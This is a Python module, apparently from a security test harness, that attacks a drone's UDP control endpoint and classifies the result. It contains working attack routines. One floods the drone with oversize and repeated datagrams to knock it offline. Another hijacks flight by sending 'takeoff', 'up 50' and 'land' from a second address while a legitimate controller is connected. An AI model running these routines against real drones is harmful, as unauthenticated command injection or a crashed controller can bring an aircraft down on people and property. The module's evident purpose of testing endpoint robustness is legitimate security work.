"""Attack clients and outcome classification against a drone endpoint."""

from __future__ import annotations

import socket
import time
from dataclasses import dataclass
from enum import Enum

from .endpoint import EndpointConfig, parse_state_line

PROBES = 3
PROBE_INTERVAL = 1.0
FLOOD_SIZE = 100_000
TAKEOVER_COMMANDS = ("takeoff", "up 50", "land")


class Classification(str, Enum):
    FULL_CONTROL = "FullControl"
    CRASH = "Crash"
    NO_EFFECT = "NoEffect"


@dataclass(frozen=True)
class AttackOutcome:
    classification: Classification
    evidence: tuple[str, ...] = ()
    transitions: tuple[str, ...] = ()  # state changes caused by attacker commands
    failed_probes: int = 0  # consecutive failed liveness probes at the end

    def __post_init__(self):
        if self.classification is Classification.FULL_CONTROL and not self.transitions:
            raise ValueError("FullControl needs an attacker-caused state transition")
        if self.classification is Classification.CRASH and self.failed_probes < PROBES:
            raise ValueError(f"Crash needs {PROBES} consecutive failed liveness probes")

    @property
    def exit_code(self) -> int:
        return 0 if self.classification is Classification.NO_EFFECT else 1

    def to_dict(self) -> dict:
        return {"classification": self.classification.value, "evidence": list(self.evidence),
                "transitions": list(self.transitions), "failed_probes": self.failed_probes}


def _udp(timeout: float) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    return s


def _request(sock: socket.socket, target, payload: bytes) -> bytes | None:
    sock.sendto(payload, target)
    try:
        data, _ = sock.recvfrom(4096)
        return data
    except socket.timeout:
        return None


def probe_liveness(target, probes: int = PROBES, interval: float = PROBE_INTERVAL
                   ) -> tuple[int, list[str]]:
    """Send "command" probes ``interval`` apart; any reply means alive.

    Returns (consecutive failures, evidence lines).  Probing stops at the
    first reply.
    """
    evidence = []
    failed = 0
    with _udp(interval) as s:
        for i in range(probes):
            reply = _request(s, target, b"command")
            if reply is not None:
                evidence.append(f"probe {i + 1}: reply {reply.decode(errors='replace')!r}")
                return 0, evidence
            failed += 1
            evidence.append(f"probe {i + 1}: no reply within {interval:g} s")
    return failed, evidence


def attack_dos(target, config: EndpointConfig | None = None, flood: int = FLOOD_SIZE,
               probe_interval: float = PROBE_INTERVAL) -> AttackOutcome:
    """Oversize datagrams, then a command flood, then liveness probes."""
    config = config or EndpointConfig()
    target = tuple(target)
    buf = config.buffer_size
    evidence = []
    with _udp(0.2) as s:
        for size in dict.fromkeys((buf + 1, 2 * buf, 4096)):
            s.sendto(b"A" * size, target)
        evidence.append(f"sent oversize datagrams of {buf + 1}, {2 * buf} and 4096 bytes")
        for i in range(flood):
            s.sendto(b"command", target)
            if i % 2000 == 1999:
                time.sleep(0.001)  # let the receiver drain the socket buffer
        evidence.append(f"sent a flood of {flood} command datagrams")
    time.sleep(0.2)
    failed, probes = probe_liveness(target, PROBES, probe_interval)
    evidence.extend(probes)
    kind = Classification.CRASH if failed >= PROBES else Classification.NO_EFFECT
    return AttackOutcome(kind, tuple(evidence), failed_probes=failed)


class _StateWatcher:
    """Subscribes to the state port and reads broadcast lines."""

    def __init__(self, address, interval: float):
        self.address = tuple(address)
        self.interval = interval
        self.sock = _udp(3 * interval)
        self.sock.sendto(b"subscribe", self.address)

    def close(self) -> None:
        self.sock.close()

    def latest(self) -> dict[str, str] | None:
        """A broadcast produced after this call started."""
        self.sock.setblocking(False)
        try:
            while True:
                self.sock.recvfrom(4096)
        except (BlockingIOError, OSError):
            pass
        self.sock.settimeout(3 * self.interval)
        line = None
        for _ in range(2):  # the second line was generated after the drain
            try:
                data, _ = self.sock.recvfrom(4096)
                line = parse_state_line(data.decode(errors="replace"))
            except socket.timeout:
                break
        return line


def _describe(before: dict, after: dict) -> str | None:
    changes = []
    if before.get("mode") != after.get("mode"):
        changes.append(f"{before.get('mode', '?').capitalize()}->{after.get('mode', '?').capitalize()}")
    if before.get("z") != after.get("z"):
        changes.append(f"z {before.get('z')}->{after.get('z')}")
    return ", ".join(changes) or None


def attack_takeover(target, config: EndpointConfig | None = None,
                    commands=TAKEOVER_COMMANDS, reply_timeout: float = 1.0) -> AttackOutcome:
    """Open a legitimate session, then command the drone from a second address."""
    config = config or EndpointConfig()
    target = tuple(target)
    state_addr = (target[0], config.state_port)
    evidence = []
    transitions = []
    watcher = _StateWatcher(state_addr, config.interval)
    try:
        with _udp(reply_timeout) as legit, _udp(reply_timeout) as attacker:
            reply = _request(legit, target, b"command")
            evidence.append(f"controller session: {reply!r}")
            before = watcher.latest()
            if before is None:
                evidence.append("no state broadcast received")
            for cmd in commands:
                reply = _request(attacker, target, cmd.encode())
                after = watcher.latest()
                shown = None if reply is None else reply.decode(errors="replace")
                line = f"attacker {cmd!r}: reply {shown!r}"
                change = None if before is None or after is None else _describe(before, after)
                if change is not None:
                    transitions.append(f"{change} after attacker {cmd!r}")
                    line += f", state {change}"
                evidence.append(line)
                before = after if after is not None else before
    finally:
        watcher.close()
    kind = Classification.FULL_CONTROL if transitions else Classification.NO_EFFECT
    return AttackOutcome(kind, tuple(evidence), tuple(transitions))
